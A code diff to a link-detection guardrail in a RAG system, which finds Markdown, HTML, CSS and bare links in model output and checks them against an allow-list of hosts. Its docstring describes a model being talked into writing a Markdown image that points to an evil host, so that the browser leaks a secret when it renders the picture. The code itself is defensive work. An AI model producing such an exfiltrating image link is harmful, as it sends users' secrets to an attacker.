@@ -4,8 +4,9 @@ The check `links`. A model that was talked into it could write `![](https://evil
 and a browser would send the secret by showing the picture. So a link is judged however it is
 written: Markdown, a reference to one, HTML, or bare; of a relative one nothing leaves.
 
-On the 24 ways of tests/rag/guardrails/test_links.py to point elsewhere: all found; of its 12 harmless
-texts (versions, file names, mail addresses, times): none.
+On the 42 ways of tests/rag/guardrails/test_links.py to point elsewhere, 17 of them hidden behind
+something harmless: all found; of its 12 harmless texts (versions, file names, mail addresses,
+times): none. Its time grows with the length of a text, whatever is written in it.
 """
 
 import re
@@ -18,24 +19,44 @@ from urllib.parse import unquote
 from rag.guardrails.checks import Finding, NotRun, Report, Said, Scanned
 from rag.types import Span
 
-_IMAGE = r"!\[(?:[^\[\]]|\[[^\]]*\])*\]"
+_LABEL = r"\[(?:[^\[\]]|\[[^\[\]]*\])*+\]"
+_TITLE = r"""(?:\s++(?:"[^"]*+"|'[^']*+'|\([^()]*+\)))?"""
+_CLOSED = rf"(?:>?{_TITLE}\s*+\)|>?\s*+\Z)"
+"""What is not closed is no link, and what it would have swallowed may be one."""
+
+
+def _place(kind: str) -> str:
+    """Where a Markdown link leads. No other link or image begins within it."""
+    return rf"<?(?P<{kind}_to>(?<=<)[^<>\n]++|(?:[^ \n<>)\]]|\](?!\())++)"
+
+
 _PLACES = re.compile(
     rf"""
-    (?P<image>{_IMAGE}\(\s*<?(?P<image_to>[^ \n<>)]+)[^)]*\)?)
-    | (?P<link>\[(?:[^\[\]]|\[[^\]]*\])*\]\(\s*<?(?P<link_to>[^ \n<>)]+)[^)]*\)?)
-    | (?P<reference>^\s{{0,3}}\[[^\]]+\]:\s*<?(?P<reference_to>[^\s<>]+)>?)
-    | (?P<html><\s*[a-z]+\b[^<>]*?\b(?:src|href|srcset|action|data|poster|background|xlink:href|formaction)
-        \s*=\s*["']?\s*(?P<html_to>[^\s"'<>]+)[^<>]*>?)
-    | (?P<style>\burl\(\s*["']?(?P<style_to>[^\s"')]+)["']?\s*\))
-    | (?P<bare>\b(?P<bare_to>(?:[a-z][a-z0-9+.-]{{1,15}}:)?//[^\s<>"'\])]+|www\.[^\s<>"'\])]+
-        |(?:javascript|data|vbscript|file|blob):[^\s<>"'\])]+))
-    | (?P<slashes>(?<![:\w/\\])(?P<slashes_to>[/\\]{{2}}[\w-]+(?:\.[\w-]+)+[^\s<>"'\])]*))
+    (?P<image>!{_LABEL}\(\s*+{_place("image")}{_CLOSED})
+    | (?P<link>{_LABEL}\(\s*+{_place("link")}{_CLOSED})
+    | (?P<reference>^\s{{0,3}}\[(?:[^\[\]\\]|\\.){{1,999}}+\]:\s*+<?(?P<reference_to>[^\s<>]++)>?)
+    | (?P<html><\s*+[a-z][a-z0-9-]*+(?=[\s/>])(?:=\s*+"[^"]*+"|=\s*+'[^']*+'|[^<>])*+>?)
+    | (?P<style>\burl\(\s*+["']?\s*+(?P<style_to>[^\s"'()]++)["']?\s*+\)?)
+    | (?P<bare>\b(?P<bare_to>(?:[a-z][a-z0-9+.-]{{1,15}}:)?//[^\s<>"'\])]++|www\.[^\s<>"'\])]++
+        |(?:javascript|data|vbscript|file|blob):[^\s<>"'\])]++))
+    | (?P<slashes>(?<![:\w/\\])(?P<slashes_to>[/\\]{{2}}[\w-]++(?:\.[\w-]++)+[^\s<>"'\])]*+))
     """,
     re.IGNORECASE | re.VERBOSE | re.MULTILINE,
 )
+_SIGNS = ("//", "](", "]:", "<", "\\", "www.", "url(", "script:", "data:", "file:", "blob:")
+"""Without one of these there is no link: most texts have none, and are looked through 100 times as
+quickly."""
+_KINDS = ("image", "link", "reference", "html", "style", "bare", "slashes")
+_POINTS = r"srcset|src|xlink:href|href|action|data|poster|background|formaction|ping"
+_ATTRIBUTE = re.compile(
+    rf"""(?<![\w:-])(?P<name>{_POINTS})\s*+=\s*+(?P<value>"[^"]*+"|'[^']*+'|[^\s"'>]++)""",
+    re.IGNORECASE,
+)
+_ANCHOR = re.compile(r"<\s*a\b", re.IGNORECASE)
 _SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
 _WEB = frozenset({"http", "https"})
 _INVISIBLE = re.compile(r"[\x00-\x20\x7f\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u2064\ufeff]")
+_LONGEST_HOST = 253
 
 
 @dataclass(frozen=True, slots=True)
@@ -50,16 +71,30 @@ class Link:
 
 
 def links_in(text: str) -> Iterator[Link]:
-    """Every link and image of `text`, in order."""
+    """Every link and image of `text`, in order; a tag that points to several places is several."""
+    folded = text.casefold()
+    if not any(sign in folded for sign in _SIGNS):
+        return
     for match in _PLACES.finditer(text):
         kind = str(next(name for name in _KINDS if match[name] is not None))
-        shows = kind in ("image", "style") or (
-            kind == "html" and not re.match(r"<\s*a\b", match[0], re.IGNORECASE)
-        )
-        yield Link(Span(*match.span(kind)), match[f"{kind}_to"], shows)
+        span = Span(*match.span(kind))
+        if kind == "html":
+            shows = _ANCHOR.match(match[0]) is None
+            yield from (Link(span, to, shows) for to in _of_tag(match[0]))
+        else:
+            yield Link(span, match[f"{kind}_to"], kind in ("image", "style"))
 
 
-_KINDS = ("image", "link", "reference", "html", "style", "bare", "slashes")
+def _of_tag(tag: str) -> Iterator[str]:
+    """Wherever a tag points: by its attributes, and by what else stands in it."""
+    for attribute in _ATTRIBUTE.finditer(tag):
+        value = attribute["value"].strip("\"'").strip()
+        if attribute["name"].lower() == "srcset":
+            yield from filter(None, re.split(r"[,\s]+", value))
+        elif value:
+            yield value
+    # With Markdown in it, it is no tag but text.
+    yield from (link.to for link in links_in(_ATTRIBUTE.sub(" ", tag[1:])))
 
 
 def host_of(to: str) -> str | None:
@@ -112,5 +147,7 @@ class LinksCheck:
     def _allows(self, host: str) -> bool:
         if host in self.allowed:
             return True
+        if len(host) > _LONGEST_HOST:
+            return False
         parts = host.split(".")
         return any(f"*.{'.'.join(parts[at:])}" in self.allowed for at in range(1, len(parts)))
